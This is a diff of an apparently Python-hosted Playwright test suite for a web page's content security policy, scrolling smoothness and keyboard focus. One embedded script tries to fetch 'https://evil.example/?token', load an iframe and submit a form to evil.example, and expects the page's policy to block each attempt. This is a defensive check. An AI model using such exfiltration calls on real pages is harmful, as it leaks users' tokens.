@@ -196,34 +196,39 @@ HOSTILE_LINKS: Final = (
 TRY_TO_BREAK_OUT: Final = """
 return page.evaluate(async () => {
   const why = async (work) => { try { await work(); return 'done' } catch (error) { return error.name } };
-  const violated = (work) => new Promise((resolve) => {
-    document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true });
-    work();
-  });
+  const seen = [];
+  document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective));
   return {
     html: await why(() => { document.body.innerHTML = '<b>x</b>' }),
     policy: await why(() => trustedTypes.createPolicy('other', {})),
-    code: await why(() => Function('return 1')()),
-    elsewhere: await violated(() => fetch('https://evil.example/?token').catch(() => {})),
-    frame: await violated(() => document.body.append(Object.assign(document.createElement('iframe'), { src: '/' }))),
-    form: await violated(() => {
+    elsewhere: await why(() => fetch('https://evil.example/?token')),
+    rest: await why(() => {
+      document.body.append(Object.assign(document.createElement('iframe'), { src: '/' }));
       const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/' });
       document.body.append(form);
       form.submit();
     }),
+    refused: await new Promise((resolve) => setTimeout(() => resolve([...new Set(seen)].sort()), 300)),
   };
 });
 """
 NO_WAY_OUT: Final = {
     "html": "TypeError",
     "policy": "TypeError",
-    "code": "EvalError",
-    "elsewhere": "connect-src",
-    "frame": "frame-src",
-    "form": "form-action",
+    "elsewhere": "TypeError",
+    "rest": "done",
+    "refused": ["connect-src", "form-action", "frame-src", "require-trusted-types-for", "trusted-types"],
 }
 
 # --- smoothness ------------------------------------------------------------------------------------------------------
+
+SPENT: Final = """
+const session = (pages.session ??= await context.newCDPSession(page));
+await session.send('Performance.enable', { timeDomain: 'threadTicks' });
+const { metrics } = await session.send('Performance.getMetrics');
+return 1000 * metrics.find((each) => each.name === 'TaskDuration').value;
+"""
+"""CPU time of the page's main thread so far, in ms: what it needs of a frame, however busy the machine is."""
 
 WATCH_FRAMES: Final = """
 await page.addInitScript(() => {
@@ -243,9 +248,9 @@ return page.evaluate(async () => {
   const begun = performance.now();
   const frames = [];
   let before = begun;
-  // As a wheel that is turned fast: half a screen in each frame, until the end.
+  // More than a screen in each frame, so that all of each is new, until the end.
   while (scrollY + innerHeight < document.documentElement.scrollHeight - 1) {
-    scrollBy(0, 400);
+    scrollBy(0, 1200);
     await new Promise(requestAnimationFrame);
     frames.push(performance.now() - before);
     before = performance.now();
@@ -293,15 +298,12 @@ await page.locator('#clear').focus();
 await press('Tab');
 await press('ArrowDown');
 await press('ArrowDown');
-await page.keyboard.press('ArrowUp');
-await page.keyboard.press('ArrowUp');
-await page.keyboard.press('Enter');
-seen.push(await where());
-await page.keyboard.press('Space');
-await page.keyboard.press('Enter');
-seen.push(await where());
-await page.keyboard.press('Enter');
-seen.push(await where());
+await page.keyboard.press('Home');
+for (const [left, key] of [[3, 'Enter'], [2, 'Space'], [1, 'Enter'], [0, 'Enter']]) {
+  await page.keyboard.press(key);
+  await page.waitForFunction((left) => document.querySelectorAll('.message').length === left, left);
+  seen.push(await where());
+}
 return seen;
 """
 """Where the focus is, step by step."""
